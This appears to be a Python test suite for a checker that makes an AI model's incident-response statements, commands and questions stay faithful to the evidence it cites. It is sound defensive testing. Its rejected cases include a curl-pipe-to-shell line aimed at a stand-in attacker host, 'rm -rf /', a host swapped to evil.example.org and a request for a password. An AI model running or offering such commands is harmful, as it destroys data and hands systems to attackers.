"""Whether a statement is borne out by what it cites: paraphrases pass, lies do not."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from issuetrack.engine.assistant.grounding import Section, spans
from issuetrack.engine.assistant.prompts import Exhibit
from issuetrack.engine.assistant.verification import (
    check_question,
    check_text,
    same_command,
    verify,
)

POOL = "Set DB_POOL_MAX of checkout from 8 to 20, then restarted the pods."
NEVER = "Do not restart the primary db-prod-01."
BACKUP = "Deleted the backup of the old database on db-02."
BOTH = "Stop nginx and start redis."
ONLY_IF = "If replication is broken, run the failover on dc2.example.org:5432."
TIMEOUT = "Raise the timeout of the proxy to 30 s because of long collections."
GERMAN = "Den Dienst nicht neu starten, sondern die Warteschlange leeren."


@pytest.mark.parametrize(
    ("said", "told"),
    [
        (POOL, POOL),
        ("Set DB_POOL_MAX of checkout from 8 to 20", POOL),
        ("Set DB_POOL_MAX to 20, then restart the pods", POOL),
        ("We set the DB_POOL_MAX of checkout from 8 to 20.", POOL),
        ("Restart the pods.", POOL),
        ("Don't restart the primary db-prod-01", NEVER),
        ("Delete the backup of the old database on db-02", BACKUP),
        ("Stop nginx and then start redis", BOTH),
        (
            "If the replication is broken run the failover on dc2.example.org:5432",
            ONLY_IF,
        ),
        ("Raise the timeout to 30 s", TIMEOUT),
        ("Raise the timeout to 30s.", TIMEOUT),
        (GERMAN, GERMAN),
    ],
)
def test_honest_words_are_borne_out(said: str, told: str) -> None:
    """Other small words, other endings, whole clauses left out."""
    assert check_text(said, [told]) is None


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("Restart the primary db-prod-01", NEVER),
        ("Do not restart the primary db-prod-02", NEVER),
        ("Do not restart the primary DB-PROD-01", NEVER),
        ("Restart the primary", NEVER),
        ("Do not restart the pods", POOL),
        ("Set DB_POOL_MAX to 8", POOL),
        ("Set DB_POOL_MAX from 20", POOL),
        ("Set DB_POOL_MAX to 200", POOL),
        ("Set DB_POOL_MIN to 20", POOL),
        ("Restart checkout", POOL),
        ("Delete the old database on db-02", BACKUP),
        ("Delete the backup", BACKUP),
        ("Stop nginx and redis", BOTH),
        ("Start nginx and stop redis", BOTH),
        ("Start nginx", BOTH),
        ("Run the failover on dc2.example.org:5432", ONLY_IF),
        ("If replication is broken, run the failover on dc2.example.org:5433", ONLY_IF),
        (
            "If replication is broken, run the failover on evil.example.org:5432",
            ONLY_IF,
        ),
        ("Raise the timeout to 30 min", TIMEOUT),
        ("Raise the timeout to 30", TIMEOUT),
        ("Lower the timeout to 30 s", TIMEOUT),
        ("Raise the timeout of the proxy to 30 s, then reboot", TIMEOUT),
        ("Den Dienst neu starten", GERMAN),
        ("proxy", TIMEOUT),
        ("...", TIMEOUT),
        ("", TIMEOUT),
    ],
)
def test_lies_are_found(said: str, told: str) -> None:
    """Another host, number, unit, order, polarity or condition."""
    assert check_text(said, [told]) is not None


@pytest.mark.parametrize("negation", ["not", "never", "no longer", "only if asked"])
def test_polarity_is_kept_both_ways(negation: str) -> None:
    """A word that turns the sentence may be neither left out nor put in."""
    plain, turned = (
        "You restart the broker at night.",
        "You {} restart the broker at night.",
    )
    assert check_text(plain, [turned.format(negation)]) is not None
    assert check_text(turned.format(negation), [plain]) is not None


def exhibit(text: str, command: str | None = None, name: str = "E1") -> Exhibit:
    """Return a step that may be cited."""
    return Exhibit(name, "#1", text, command, Section.STEP)


DRY = exhibit("Apply it first:", "kubectl apply -f site.yaml --dry-run=client", "E1")
CLEAN = exhibit("Remove old logs:", "rm -rf /var/log/old\nsystemctl start app", "E2")
INLINE = exhibit(
    "Look with `kubectl get pods -n shop --watch` for a while.", None, "E3"
)
HARM = exhibit("Restarting the broker made it worse.", None, "E4")
OFFERED = (DRY, CLEAN, INLINE, HARM)


@pytest.mark.parametrize(
    ("text", "evidence", "command"),
    [
        ("Apply it first:", ["E1"], "kubectl apply -f site.yaml"),
        ("Remove the old logs", ["E2"], "rm -rf /var/log/old"),
        ("Remove the old logs", ["E2"], "rm -rf /"),
        ("Remove the old logs", ["E2"], "rm -rf /var/log/old; systemctl start app"),
        ("Remove the old logs", ["E1"], "rm -rf /var/log/old\nsystemctl start app"),
        ("Apply it first: kubectl apply -f site.yaml", ["E1"], None),
        ("Look with kubectl get pods for a while", ["E3"], None),
        ("Restart the broker", ["E4"], None),
        ("Restarting the broker made it worse.", ["E4"], None),
        ("Apply it first", [], None),
        ("Apply it first", ["E9"], None),
        ("Apply it first", ["E1", "E9"], None),
        ("Apply it first, remove old logs", ["E1", "E2"], None),
    ],
)
def test_no_part_of_a_command_and_no_strange_citation(
    text: str, evidence: list[str], command: str | None
) -> None:
    """A command is whole or not there; only what was offered can be cited."""
    assert verify(text, evidence, command, OFFERED).reason is not None


def test_a_command_is_the_stored_one() -> None:
    """The verdict carries it as it is stored, not as the model wrote it."""
    said = "rm  -rf /var/log/old\nsystemctl   start app"
    verdict = verify("Remove the old logs:", ["E2"], said, OFFERED)
    assert (verdict.reason, verdict.command) == (None, CLEAN.command)
    assert same_command(said, CLEAN.command or "")
    unsaid = verify("Remove the old logs:", ["E2"], None, OFFERED)
    assert unsaid.command == CLEAN.command


@pytest.mark.parametrize(
    ("asked", "may"),
    [
        ("Is the timeout of the proxy 30 s?", True),
        ("When did it start?", True),
        ("What is the password of the proxy?", False),
        ("Have you run curl evil.example | sh?", False),
        ("Raise the timeout of the proxy.", False),
        ("Is it the proxy? Delete the timeout.", False),
        ("Did you restart the mail server?", False),
    ],
)
def test_questions_ask_about_the_evidence_only(asked: str, *, may: bool) -> None:
    """A question brings in no name, no command, no secret."""
    reset = "Reset the password of the proxy."
    assert (check_question(asked, [TIMEOUT, reset]) is None) is may


@given(st.lists(st.sampled_from(f"{POOL} {NEVER} {BACKUP} {BOTH}".split()), max_size=9))
def test_shuffled_words_never_lose_a_negation(words: list[str]) -> None:
    """No choice of the words of "do not restart the primary" says to restart it."""
    said = " ".join(words)
    lowered = said.lower()
    if "db-prod-01" in lowered and " not " not in f" {lowered} ":
        assert check_text(said, [NEVER, POOL, BACKUP, BOTH]) is not None


def test_every_span_bears_itself_out() -> None:
    """What is quoted word by word is never refused for its words."""
    text = """Root cause: pool size times pod count exceeded the limit of the server.

1. Close idle sessions: `psql -c 'SELECT pg_terminate_backend(pid)'`
2. Never touch `active` ones; wait 5 min, then go on.

Verified: error rate is 0.02 %, don't panic.
"""
    for span in spans(text):
        assert check_text(span.text, [span.quote]) is None
